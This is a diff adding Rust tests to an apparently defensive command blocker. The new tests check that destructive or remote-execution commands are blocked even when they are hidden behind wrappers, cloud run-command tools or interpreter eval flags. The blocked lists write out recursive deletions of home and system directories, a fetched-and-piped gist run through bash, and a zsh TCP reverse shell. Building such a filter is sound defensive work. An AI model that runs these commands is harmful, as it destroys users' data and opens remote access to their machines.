@@ -57,6 +57,35 @@ fn wrappers_are_looked_through() {
         "caffeinate -i",
         "git bisect run",
         "screen -dmS x",
+        "tini --",
+        "dumb-init",
+        "daemonize -p /tmp/p",
+        "daemon --",
+        "chpst -u root",
+        "s6-setuidgid root",
+        "runcon u:r:t",
+        "ip netns exec x",
+        "nocache",
+        "ifne",
+        "tsp",
+        "steam-run",
+        "flatpak-spawn --host",
+        "toolbox run",
+        "distrobox enter x --",
+        "lxc-attach -n c --",
+        "multipass exec vm --",
+        "nomad alloc exec x",
+        "apptainer exec image.sif",
+        "npx cross-env A=1",
+        "npx env-cmd -f x",
+        "srun -n 4",
+        "salt '*' cmd.run",
+        "salt-call --local cmd.run",
+        "fab -H h --",
+        "knife ssh 'role:web'",
+        "bolt command run",
+        "cargo watch --",
+        "cmake -E env A=1",
         "nix develop -c",
         "xterm -e",
         "sshpass -p x ssh host",
@@ -337,4 +366,107 @@ fn what_stands_before_does_not_swallow_the_rest() {
             assert!(is_blocked(&command), "{command}");
         }
     }
+}
+
+#[test]
+fn commands_in_forms_of_their_own_are_run() {
+    assert_blocked(&[
+        "start-stop-daemon -S -x /bin/rm -- -rf /home",
+        "start-stop-daemon --start --exec /bin/rm -- -rf /home",
+        "screen -S x -X stuff $'rm -rf ~\n'",
+        "cargo watch -x run -s 'rm -rf ~'",
+        "npx run-s 'rm -rf ~'",
+        "pee 'rm -rf ~'",
+        "sbatch --wrap='rm -rf ~'",
+        "aws ssm send-command --document-name AWS-RunShellScript --parameters 'commands=[\"rm -rf /srv\"]'",
+        "aws ssm send-command --parameters '{\"commands\":[\"ls\",\"rm -rf /srv\"]}'",
+        "aws ssm send-command --parameters commands='rm -rf /srv'",
+        "az vm run-command invoke -g g -n v --command-id RunShellScript --scripts 'rm -rf /srv'",
+        "make SHELL='rm -rf ~' all",
+        "make -s --eval 'x:;rm -rf ~' x",
+        "npm pkg set scripts.x='rm -rf ~'",
+        "wine cmd /c del /s /q Z:\\",
+        "less '+!rm -rf ~' f",
+        "gh gist view abc -r | bash",
+        "zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
+    ]);
+    assert_harmless(&[
+        "start-stop-daemon --start --exec /usr/bin/app -- --port 80",
+        "aws ssm send-command --parameters 'commands=[\"uptime\"]'",
+        "aws ssm get-parameter --name x",
+        "make SHELL=/bin/bash all",
+        "make --eval 'x:;rm -rf build' x",
+        "npm pkg set scripts.clean='rm -rf dist' version=2.0.0",
+        "cargo watch -x test",
+        "salt '*' test.ping",
+        "salt '*' cmd.run 'uptime'",
+        "fab deploy",
+        "ip netns exec x ip addr",
+        "ip addr show",
+        "less +G app.log",
+        "gh gist view abc -r | less",
+        "cmake -E env CC=gcc make",
+    ]);
+}
+
+#[test]
+fn code_of_languages_that_are_not_parsed_is_searched_for_commands() {
+    assert_blocked(&[
+        "emacs --batch --eval '(shell-command \"rm -rf ~\")'",
+        "emacs --batch --eval '(delete-directory \"~\" t)'",
+        "vim -es -c 'call system(\"rm -rf ~\")' x",
+        "erl -noshell -eval 'os:cmd(\"rm -rf ~\"), halt().'",
+        "scala -e 'import sys.process._; \"rm -rf /home\".!'",
+        "jshell <<< 'Runtime.getRuntime().exec(\"rm -rf /home\")'",
+        "jshell <<< 'new ProcessBuilder(\"rm\", \"-rf\", \"/home\").start()'",
+        "ghc -e 'System.Process.system \"rm -rf ~\"'",
+        "swift -e 'try! FileManager.default.removeItem(atPath:\"/Users\")'",
+        "sbcl --eval '(uiop:run-program \"rm -rf ~\")'",
+        "guile -c '(system \"rm -rf ~\")'",
+        "racket -e '(system \"rm -rf ~\")'",
+        "tclsh <<< 'file delete -force /home'",
+        "tclsh <<< 'exec rm -rf /home'",
+        "gcc -xc - <<< 'int main(){system(\"rm -rf ~\");}' && ./a.out",
+        "R -e 'unlink(\"/home\", recursive=TRUE)'",
+        "julia -e 'rm(\"/home\"; recursive=true)'",
+        "iex -e 'System.cmd(\"rm\",[\"-rf\",\"/\"])'",
+        "ipython -c '!rm -rf ~'",
+        "python3 -m timeit -s 'import os' \"os.system('rm -rf ~')\"",
+    ]);
+    assert_harmless(&[
+        "emacs --batch --eval '(message \"rm -rf ~\")'",
+        "emacs --batch -l init.el --eval '(delete-file \"build/x.elc\")'",
+        "erl -noshell -eval 'io:format(\"rm -rf ~\"), halt().'",
+        "ghc -e 'putStrLn \"system rm -rf ~\"'",
+        "racket -e '(system \"ls\")'",
+        "tclsh <<< 'puts \"file delete -force /home\"'",
+        "gcc -xc - <<< 'int main(){return 0;}'",
+        "swift -e 'print(\"removeItem\")'",
+        "python3 -m timeit 'sum(range(9))'",
+        "R CMD INSTALL .",
+        "julia -e 'rm(\"build\"; recursive=true)'",
+    ]);
+}
+
+#[test]
+fn words_behind_a_program_that_nobody_knows_may_be_run() {
+    assert_rule(
+        "opaque",
+        &["newrunner rm -rf /etc", "newrunner --x -- /bin/rm -rf ~", "./with-env rm -rf /home/me"],
+    );
+    assert_harmless(&[
+        "newrunner rm -rf build",
+        "newrunner rm -rf /tmp/x",
+        "newrunner ls -la /etc",
+        "newrunner 'rm -rf /etc'",
+        "echo rm -rf /etc",
+        "man rm",
+        "tldr rm -rf /etc",
+        "which rm dd",
+        "llm explain rm -rf /etc",
+        "shellcheck rm.sh",
+        "./deploy.sh rm",
+        "pytest -k rm",
+        "cheat dd if=/dev/zero of=/dev/sda",
+    ]);
 }
